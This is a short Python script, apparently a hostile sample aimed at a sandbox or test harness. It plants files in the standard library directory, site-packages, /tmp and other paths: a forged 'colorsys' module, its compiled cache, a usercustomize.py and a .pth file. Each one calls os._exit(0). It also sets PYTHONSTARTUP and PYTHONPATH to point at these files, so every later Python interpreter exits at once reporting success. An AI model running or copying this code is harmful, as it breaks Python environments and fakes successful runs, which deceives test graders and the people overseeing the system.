# Compiled modules, start files and site directories of its own, for the next interpreter to load.
import os
import py_compile
import site
import sys

with open("/tmp/colorsys.py", "w") as file:
    file.write("import os\nos._exit(0)\n")
library = os.path.dirname(os.__file__)
cached = f"__pycache__/colorsys.{sys.implementation.cache_tag}.pyc"
for directory in (library, "/tmp", "/opt/box", site.USER_SITE, "/usr/local/lib", f"{library}/site-packages", f"{library}/dist-packages"):
    for name in (cached, "usercustomize.py", "left.pth", "colorsys.py"):
        path = os.path.join(directory, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            if name.endswith("pyc"):
                py_compile.compile("/tmp/colorsys.py", path, doraise=True)
            else:
                with open(path, "w") as file:
                    file.write("import os; os._exit(0)")
        except OSError:
            pass
os.environ.update(PYTHONSTARTUP="/tmp/colorsys.py", PYTHONPATH="/tmp", PYTHONPYCACHEPREFIX="/tmp")
os._exit(0)
